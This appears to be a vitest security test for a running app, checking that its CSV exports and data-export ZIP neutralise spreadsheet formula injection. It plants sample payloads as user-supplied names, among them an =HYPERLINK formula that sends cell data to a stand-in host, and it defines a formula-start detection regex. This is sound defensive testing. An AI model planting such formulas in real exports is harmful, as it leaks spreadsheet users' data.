import { mkdtempSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import request from 'supertest';
import { describe, expect, it } from 'vitest';
import yauzl from 'yauzl';
import { createApp } from '../../server/app.ts';
import { db } from '../../server/lib/db.ts';
import { createFsStore } from '../../server/lib/storage.ts';
import { generateLakeRun } from '../../shared/tracks/synthetic.ts';
import { writeGpx } from '../../shared/tracks/write-track.ts';
import { createUser } from '../support/factories.ts';
import { recordingMailer, testConfig } from '../support/test-app.ts';

// Issue 13 #4: formula injection through CSV. OWASP "CSV Injection": a cell starting with =, +, -, @, tab or
// carriage return is run by a spreadsheet; the one CSV writer (shared/csv/csv-writer.ts) prefixes an apostrophe.

const FORMULA_START = /^[=+\-@\t\r]/;
const APP_NUMBER = /^-?\d+(\.\d+)?$/;

/** RFC 4180 reader, enough for our files: quoted cells with doubled quotes, CRLF lines. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i]!;
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') {
      row.push(cell);
      cell = '';
    } else if (c === '\r' && text[i + 1] === '\n') {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
      i++;
    } else cell += c;
  }
  return rows;
}

/** Cells a spreadsheet would run as a formula: a formula start that is not a number the app wrote. */
function dangerousCells(csv: string): string[] {
  return parseCsv(csv)
    .flat()
    .filter((c) => FORMULA_START.test(c) && !APP_NUMBER.test(c));
}

function binary(res: request.Test) {
  return res.buffer(true).parse((r, cb) => {
    const chunks: Buffer[] = [];
    r.on('data', (c: Buffer) => chunks.push(c));
    r.on('end', () => cb(null, Buffer.concat(chunks)));
  });
}

async function unzipCsvs(zip: Buffer): Promise<Map<string, string>> {
  const zipfile = await yauzl.fromBufferPromise(zip, { lazyEntries: true });
  const out = new Map<string, string>();
  await new Promise<void>((resolve, reject) => {
    zipfile.on('entry', (entry: yauzl.Entry) => {
      if (!entry.fileName.endsWith('.csv')) return zipfile.readEntry();
      zipfile.openReadStream(entry, (err, stream) => {
        if (err) return reject(err);
        const chunks: Buffer[] = [];
        stream.on('data', (c: Buffer) => chunks.push(c));
        stream.on('end', () => {
          out.set(entry.fileName, Buffer.concat(chunks).toString('utf8'));
          zipfile.readEntry();
        });
      });
    });
    zipfile.on('end', () => resolve());
    zipfile.on('error', reject);
    zipfile.readEntry();
  });
  return out;
}

const RUNNER_NAME = '=HYPERLINK("http://example.test/?"&A2,"Runner B")';
const RUN_NAME = '+SUM(1,2) lake loop';
const RENAMED = '-2+3 tempo';
const PLAN_TITLE = '@SUM(A1:A9)';
const DATE = '2026-11-24';

describe('every CSV the app produces defuses formula starts', () => {
  it('runs.csv, splits-mi.csv, splits-km.csv, splits.csv, plan-check.csv, week.csv and overview.csv: 0 cells a spreadsheet would run', async () => {
    const dataDir = mkdtempSync(path.join(tmpdir(), 'pacewright-csv-'));
    const app = createApp({ config: testConfig({ dataDir }), store: createFsStore(dataDir), mailer: recordingMailer });
    const { user: runner, password } = await createUser({ name: RUNNER_NAME });
    const { user: coach, password: coachPassword } = await createUser({ role: 'coach', name: 'Coach C' });
    const [squad] = await db('squads').insert({ coach_id: coach.id, name: 'Harriers' }).returning('id');
    await db('squad_members').insert({ squad_id: squad!.id, runner_id: runner.id });
    const tokenOf = async (email: string, pw: string) =>
      (await request(app).post('/api/auth/token').send({ email, password: pw })).body.token as string;
    const auth = { Authorization: `Bearer ${await tokenOf(runner.email, password)}` };
    const coachAuth = { Authorization: `Bearer ${await tokenOf(coach.email, coachPassword)}` };

    const run = generateLakeRun({
      start_t: Date.parse(`${DATE}T06:00:00Z`),
      phases: [{ kind: 'run', duration_s: 1200, speed_mps: 3 }],
      seed: 3,
      sample_s: 5,
    });
    const upload = await request(app)
      .post('/api/runs')
      .set(auth)
      .attach('files', Buffer.from(writeGpx(RUN_NAME, [run.points])), 'lake.gpx');
    expect(upload.status).toBe(201);
    const firstRun = upload.body.imported[0].id as string;
    const second = generateLakeRun({
      start_t: Date.parse(`${DATE}T17:00:00Z`),
      phases: [{ kind: 'run', duration_s: 900, speed_mps: 3.2 }],
      seed: 4,
      sample_s: 5,
    });
    const upload2 = await request(app)
      .post('/api/runs')
      .set(auth)
      .attach('files', Buffer.from(writeGpx('Evening', [second.points])), 'evening.gpx');
    expect(upload2.status).toBe(201);
    const renamed = await request(app).patch(`/api/runs/${upload2.body.imported[0].id}`).set(auth).send({ name: RENAMED });
    expect(renamed.status).toBe(200);
    expect(
      (await request(app).post('/api/plans').set(auth).send({ date: DATE, title: PLAN_TITLE, text: '3 km easy' })).status,
    ).toBe(201);

    const csvs = new Map<string, string>();
    const text = async (req: request.Test) => {
      const res = await req;
      expect(res.status).toBe(200);
      expect(res.headers['content-type']).toMatch(/^text\/csv/);
      return res.text;
    };
    csvs.set('GET /api/runs/{id}/splits.csv', await text(request(app).get(`/api/runs/${firstRun}/splits.csv?unit=km`).set(auth)));
    csvs.set('GET /api/runs/{id}/plan-check.csv', await text(request(app).get(`/api/runs/${firstRun}/plan-check.csv`).set(auth)));
    csvs.set(
      'GET /api/runners/{id}/week.csv',
      await text(request(app).get(`/api/runners/${runner.id}/week.csv?start=${DATE}`).set(auth)),
    );
    csvs.set(
      'GET /api/squads/{id}/overview.csv',
      await text(request(app).get(`/api/squads/${squad!.id}/overview.csv?week=${DATE}`).set(coachAuth)),
    );
    // The coach's billing CSV carries the runner's name too (issue 20).
    await db('squad_fees').insert({ squad_id: squad!.id, kind: 'monthly', amount_minor: 4500, currency: 'USD' });
    csvs.set(
      'GET /api/squads/{id}/billing.csv',
      await text(request(app).get(`/api/squads/${squad!.id}/billing.csv`).set(coachAuth)),
    );
    const exported = await binary(request(app).get('/api/me/export').set(auth));
    expect(exported.status).toBe(200);
    for (const [name, body] of await unzipCsvs(exported.body as Buffer)) csvs.set(`export ${name}`, body);

    // Every CSV route of the app (from its own OpenAPI document) and every CSV in the export is covered here.
    const doc = (await request(app).get('/api/openapi.json')).body as { paths: Record<string, Record<string, unknown>> };
    const csvRoutes = Object.entries(doc.paths)
      .filter(([p]) => p.endsWith('.csv'))
      .flatMap(([p, ops]) => Object.keys(ops).map((m) => `${m.toUpperCase()} ${p}`));
    expect([...csvs.keys()].filter((k) => k.startsWith('GET')).sort()).toEqual(csvRoutes.sort());
    expect([...csvs.keys()].filter((k) => k.startsWith('export')).sort()).toEqual([
      'export runs.csv',
      'export splits-km.csv',
      'export splits-mi.csv',
    ]);

    const found = Object.fromEntries([...csvs].map(([name, body]) => [name, dangerousCells(body)]));
    expect(found).toEqual(Object.fromEntries([...csvs.keys()].map((name) => [name, []])));

    // The hostile text is kept, shown as text.
    const cells = (name: string) => parseCsv(csvs.get(name)!).flat();
    expect(cells('GET /api/squads/{id}/overview.csv')).toContain(`'${RUNNER_NAME}`);
    expect(cells('GET /api/runners/{id}/week.csv')).toContain(`'${PLAN_TITLE}`);
    expect(cells('export runs.csv')).toEqual(expect.arrayContaining([`'${RUN_NAME}`, `'${RENAMED}`]));
  });
});
